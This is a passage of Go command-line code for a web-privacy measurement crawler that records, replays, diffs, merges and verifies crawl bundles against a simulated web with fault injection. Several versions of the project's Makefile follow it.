	sites := fs.Int("sites", 50, "number of ranked sites to crawl")
	subpages := fs.Int("subpages", 2, "maximum subpages per site")
	seed := fs.Int64("seed", 42, "world seed")
	dwell := fs.Float64("dwell-s", 5, "post-load dwell per page in virtual seconds")
	faultMode := fs.String("faults", "off", "fault profile to inject: off|default|heavy")
	faultSeed := fs.Int64("fault-seed", 1, "fault injector seed")
	out := fs.String("out", "crawl.bundle.json", "output bundle path")
	fs.Parse(args)

	world := websim.New(websim.Options{Seed: *seed, NumSites: *sites, AvailabilityAttacks: true})
	cfg := openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: world, ClientID: "wpmbundle-client",
		DwellSeconds: *dwell,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		HTTPFilterJSOnly: true, HoneyProps: 4,
		MaxSubpages: *subpages,
	}
	meta := map[string]string{
		"tool": "wpmbundle", "worldSeed": fmt.Sprint(*seed), "faults": *faultMode,
	}
	switch *faultMode {
	case "off":
	case "default", "heavy":
		p := faults.DefaultProfile()
		if *faultMode == "heavy" {
			p = faults.HeavyProfile()
		}
		inj := faults.NewInjector(*faultSeed, p, world)
		inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
		cfg.Transport = inj
		cfg = cfg.Hardened()
		meta["faultSeed"] = fmt.Sprint(*faultSeed)
	default:
		return fmt.Errorf("unknown -faults mode %q (want off|default|heavy)", *faultMode)
	}

	b, rep, _, err := bundle.RecordCrawl(cfg, websim.Tranco(*sites), meta)
	if err != nil {
		return err
	}
	if err := b.WriteFile(*out); err != nil {
		return err
	}
	fmt.Fprint(os.Stderr, rep.String())
	fmt.Printf("%s\nwrote %s (digest %s)\n", b.Stats(), *out, b.Digest)
	return nil
}

func cmdReplay(args []string) error {
	fs := flag.NewFlagSet("replay", flag.ExitOnError)
	in := fs.String("in", "", "bundle to replay (required)")
	out := fs.String("out", "", "record the replay into a new bundle at this path")
	variant := fs.String("variant", "", "observer variant: stealth|headless|legacy|nohoney (default: identical config)")
	missMode := fs.String("miss", "fail", "miss policy: fail|passthrough|synthesize-404")
	fs.Parse(args)
	if *in == "" {
		return fmt.Errorf("-in is required")
	}

	b, err := bundle.ReadFile(*in)
	if err != nil {
		return err
	}
	policy, err := bundle.ParseMissPolicy(*missMode)
	if err != nil {
		return err
	}
	var mutate func(*openwpm.CrawlConfig)
	if *variant != "" {
		if mutate, err = experiments.VariantMutator(*variant); err != nil {
			return err
		}
	}

	rec := bundle.NewRecorder(b.Manifest.Meta)
	rep, tm, rt := bundle.ReplayCrawl(b, policy, func(cfg *openwpm.CrawlConfig) {
		if mutate != nil {
			mutate(cfg)
		}
		cfg.Recorder = rec
	})
	fmt.Fprint(os.Stderr, rep.String())
	fmt.Printf("replayed %d sites: %d archive hits, %d misses (policy %s)\n",
		len(b.Sites), rt.Hits, rt.Misses, policy)
	if *out != "" {
		b2, err := rec.Finalize(tm.Cfg, b.Sites, rep)
		if err != nil {
			return err
		}
		if err := b2.WriteFile(*out); err != nil {
			return err
		}
		fmt.Printf("wrote %s (digest %s)\n", *out, b2.Digest)
	}
	return nil
}

func cmdDiff(args []string) error {
	fs := flag.NewFlagSet("diff", flag.ExitOnError)
	a := fs.String("a", "", "first bundle (required)")
	b := fs.String("b", "", "second bundle (required)")
	fs.Parse(args)
	if *a == "" || *b == "" {
		return fmt.Errorf("-a and -b are required")
	}
	ba, err := bundle.ReadFile(*a)
	if err != nil {
		return err
	}
	bb, err := bundle.ReadFile(*b)
	if err != nil {
		return err
	}
	d := bundle.Diff(ba, bb)
	fmt.Print(d.String())
	if !d.Empty() {
		os.Exit(1) // diff convention: nonzero when the inputs differ
	}
	return nil
}

func cmdMerge(args []string) error {
	fs := flag.NewFlagSet("merge", flag.ExitOnError)
	out := fs.String("out", "merged.bundle.json", "output bundle path")
	fs.Parse(args)
	parts := fs.Args()
	if len(parts) < 1 {
		return fmt.Errorf("at least one shard bundle path is required (in shard order)")
	}
	bundles := make([]*bundle.Bundle, len(parts))
	for i, path := range parts {
		b, err := bundle.ReadFile(path)
		if err != nil {
			return fmt.Errorf("shard %d (%s): %w", i, path, err)
		}
		bundles[i] = b
	}
	m, err := bundle.Merge(bundles, nil)
	if err != nil {
		return err
	}
	if err := m.WriteFile(*out); err != nil {
		return err
	}
	fmt.Printf("%s\nwrote %s (digest %s)\n", m.Stats(), *out, m.Digest)
	return nil
}

func cmdVerify(args []string) error {
	fs := flag.NewFlagSet("verify", flag.ExitOnError)
	in := fs.String("in", "", "bundle to verify (required)")
	fs.Parse(args)
	if *in == "" {
		return fmt.Errorf("-in is required")
	}
	b, err := bundle.ReadFile(*in) // ReadFile verifies digest, pool and report
	if err != nil {
		return err
	}
	fmt.Printf("%s\nok: digest %s\n", b.Stats(), b.Digest)
	return nil
}
