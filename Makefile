.PHONY: verify test build vet race fmt lint telemetry-demo

verify: ## gofmt + vet + build + wpmlint + race-enabled tests
	./scripts/verify.sh

lint: ## wpmlint determinism invariants over the crawl-path packages
	go run ./cmd/wpmlint ./internal/...

telemetry-demo: ## quickstart crawl with metrics + span trace on stdout
	go run ./examples/quickstart -telemetry - -trace -

build:
	go build ./...

vet:
	go vet ./...

fmt:
	gofmt -l -w .

test:
	go test ./...

race:
	go test -race ./...
