.PHONY: verify test build vet race

verify: ## vet + build + race-enabled tests
	./scripts/verify.sh

build:
	go build ./...

vet:
	go vet ./...

test:
	go test ./...

race:
	go test -race ./...
