.PHONY: verify test build vet race fmt

verify: ## gofmt + vet + build + race-enabled tests
	./scripts/verify.sh

build:
	go build ./...

vet:
	go vet ./...

fmt:
	gofmt -l -w .

test:
	go test ./...

race:
	go test -race ./...
