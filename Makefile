.PHONY: verify test build vet race fmt lint lint-fix telemetry-demo daemon-smoke bench-daemon bench-trace

verify: ## gofmt + vet + build + wpmlint + race-enabled tests
	./scripts/verify.sh

lint: ## wpmlint reliability invariants over the crawl-path packages (baselined)
	go run ./cmd/wpmlint -baseline .wpmlint-baseline.json ./internal/...

lint-fix: ## apply wpmlint's mechanical autofixes, then gofmt the result
	go run ./cmd/wpmlint -fix ./internal/... || true
	gofmt -l -w ./internal

daemon-smoke: ## wpmd end-to-end: start, submit, cache hit, metrics, drain
	go run ./cmd/wpmd -smoke -dir $$(mktemp -d)/state

bench-daemon: ## cold vs warm job latency + saturation rejection rate
	./scripts/bench_daemon.sh

bench-trace: ## span tracing overhead: disabled vs enabled vs SSE-streamed
	./scripts/bench_trace.sh

telemetry-demo: ## quickstart crawl with metrics + span trace on stdout
	go run ./examples/quickstart -telemetry - -trace -

build:
	go build ./...

vet:
	go vet ./...

fmt:
	gofmt -l -w .

test:
	go test ./...

race:
	go test -race ./...
