.PHONY: verify test build vet race fmt telemetry-demo

verify: ## gofmt + vet + build + race-enabled tests
	./scripts/verify.sh

telemetry-demo: ## quickstart crawl with metrics + span trace on stdout
	go run ./examples/quickstart -telemetry - -trace -

build:
	go build ./...

vet:
	go vet ./...

fmt:
	gofmt -l -w .

test:
	go test ./...

race:
	go test -race ./...
